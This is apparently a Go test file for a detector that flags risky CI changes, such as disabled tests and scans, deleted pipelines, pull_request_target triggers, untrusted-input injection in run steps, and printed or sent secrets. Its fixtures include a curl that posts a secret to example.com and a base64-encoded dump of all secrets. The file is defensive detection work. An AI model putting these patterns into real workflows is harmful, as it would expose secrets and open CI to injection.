package signal

import (
	"testing"

	"github.com/tierwise/tierwise/internal/change"
)

const flow = ".github/workflows/ci.yml"

func TestAPipelineThatChecksLess(t *testing.T) {
	t.Parallel()
	checkLines(t, checkDisabled(), []lineCase{
		{"the tests", flow, "       - run: npm ci\n-      - run: npm test\n       - run: npm run build"},
		{"a scan by an action", flow, "-      - uses: acme/gitleaks-scan@v2"},
		{"a linter gave way to a build", flow, "-      - run: make lint\n+      - run: make build"},
		{"a job", flow, "-  audit:\n-    runs-on: ubuntu-latest\n-    steps:\n-      - run: cargo audit"},
		{"a command of a longer script", flow, "         run: |\n           go build ./...\n-          go vet ./..."},
		{"a script of another system", ".gitlab-ci.yml", "   script:\n-    - bundle exec rspec"},
		{"a stage of Jenkins", "Jenkinsfile", "-        sh 'mvn verify'"},
		{"needs went", flow, "   deploy:\n-    needs: [build, test]\n     runs-on: ubuntu-latest"},
		{"needs became shorter", flow, "-    needs: [build, test]\n+    needs: [build]"},
		{"an item of needs", flow, "     needs:\n       - build\n-      - test"},
		{"an environment", flow, "   deploy:\n-    environment: production"},
		{"a trigger", flow, " on:\n   push:\n-  pull_request:"},
		{"a trigger of a list", flow, "-on: [push, pull_request]\n+on: [push]"},
		{"a trigger that strangers' code runs by", flow, "-on: pull_request\n+on: pull_request_target"},
		{"every path is ignored", flow, "+    paths-ignore: ['**']"},
		{"every branch is ignored", flow, "+    branches-ignore:\n+      - '**'"},
	}, []lineCase{
		{"another runner of tests", flow, "-      - run: npx jest\n+      - run: npx vitest run"},
		{"another linter", flow, "-      - run: flake8 src\n+      - run: ruff check src"},
		{"a new version of a scanner", flow, "-      - uses: acme/codeql-scan@v2\n+      - uses: acme/codeql-scan@v3"},
		{"a build", flow, "-      - run: npm run build"},
		{"reports are no longer kept", flow, "-      - uses: actions/upload-artifact@v4 # test reports"},
		{"a name", flow, "-      - name: Run the tests\n+      - name: Tests"},
		{"a job of needs has another name", flow, "-    needs: [build, tests]\n+    needs: [build, unit]"},
		{"another environment", flow, "-    environment: staging\n+    environment: preview"},
		{"a trigger with a filter", flow, "-  push:\n+  push: {}"},
		{"documents are ignored", flow, "+    paths-ignore:\n+      - 'docs/**'"},
		{"every path is read", flow, "+    paths:\n+      - '**'"},
		{"the same words outside of a pipeline", "compose.yml", "-    command: npm test"},
	})
}

func TestAPipelineThatIsGone(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		file change.File
		want bool
	}{
		{"it was deleted", change.File{Path: flow, Status: change.Removed}, true},
		{"it was renamed away", change.File{Path: "ci.yml.bak", OldPath: flow, Status: change.Renamed}, true},
		{"an action that scans was deleted", change.File{Path: ".github/actions/scan/action.yml", Status: change.Removed}, true},
		{"it has another name", change.File{Path: ".github/workflows/build.yml", OldPath: flow, Status: change.Renamed}, false},
		{"a script beside it was deleted", change.File{Path: ".github/workflows/notify.sh", Status: change.Removed}, false},
		{"it is new", change.File{Path: flow, Status: change.Added}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if got := len(checkDisabled().Hits(of(c.file))) > 0; got != c.want {
				t.Errorf("it fires: %v, want %v", got, c.want)
			}
		})
	}
}

func TestAWorkflowThatStrangersReach(t *testing.T) {
	t.Parallel()
	checkLines(t, permissionSignal(), []lineCase{
		{"a comment starts it", flow, "-on: push\n+on: issue_comment"},
		{"the code of the base with secrets", flow, "+on: {pull_request_target: {types: [opened]}}"},
		{"another workflow starts it", flow, "+  workflow_run:"},
		{"the head of a request", flow, "+          ref: ${{ github.event.pull_request.head.sha }}"},
		{"the branch of a request", flow, "+          ref: ${{ github.head_ref }}"},
		{"a kept machine", flow, "-    runs-on: ubuntu-latest\n+    runs-on: self-hosted"},
	}, []lineCase{
		{"a tag", flow, "+          ref: ${{ inputs.tag }}"},
		{"another kept machine", flow, "-    runs-on: [self-hosted, x64]\n+    runs-on: [self-hosted, arm64]"},
		{"a group of runs", flow, "+  group: ${{ github.head_ref }}"},
	})
	checkLines(t, injection(), []lineCase{
		{"a title in a command", flow, "+      - run: echo \"${{ github.event.issue.title }}\""},
		{"a body in a longer script", flow, "         run: |\n+          ./reply \"${{ github.event.comment.body }}\""},
		{"a branch in a command", flow, "+      - run: git fetch origin ${{ github.head_ref }}"},
		{"a message", flow, "+      - run: ./note '${{ github.event.head_commit.message }}'"},
	}, []lineCase{
		{"a title in a variable", flow, "+          TITLE: ${{ github.event.issue.title }}"},
		{"a number in a command", flow, "+      - run: ./label ${{ github.event.issue.number }}"},
		{"a condition", flow, "+    if: ${{ contains(github.event.comment.body, '/run') }}"},
	})
	checkLines(t, secret(), []lineCase{
		{"it is printed", flow, "+      - run: echo ${{ secrets.DEPLOY }}"},
		{"it is sent", flow, "+          curl -d \"k=${{ secrets.DEPLOY }}\" https://example.com"},
		{"all are printed", flow, "+      - run: echo '${{ toJSON(secrets) }}' | base64"},
	}, []lineCase{
		{"a variable of a step", flow, "+          DEPLOY: ${{ secrets.DEPLOY }}"},
		{"an input of an action", flow, "+          token: ${{ secrets.GITHUB_TOKEN }}"},
		{"a sign-in that reads it", flow, "+      - run: echo ${{ secrets.HUB }} | docker login -u me --password-stdin"},
		{"it is masked", flow, "+      - run: echo \"::add-mask::${{ secrets.HUB }}\""},
	})
}
